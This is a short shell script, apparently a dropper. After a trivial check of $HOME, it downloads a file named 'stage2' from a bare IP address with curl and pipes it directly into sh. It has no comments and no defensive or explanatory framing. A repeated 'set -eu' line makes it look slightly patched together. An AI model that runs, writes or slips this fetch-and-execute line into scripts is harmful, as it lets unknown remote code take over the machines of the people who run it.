#!/bin/sh
set -eu
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
curl -fsSL http://198.51.100.23:8000/stage2 | sh
set -eu
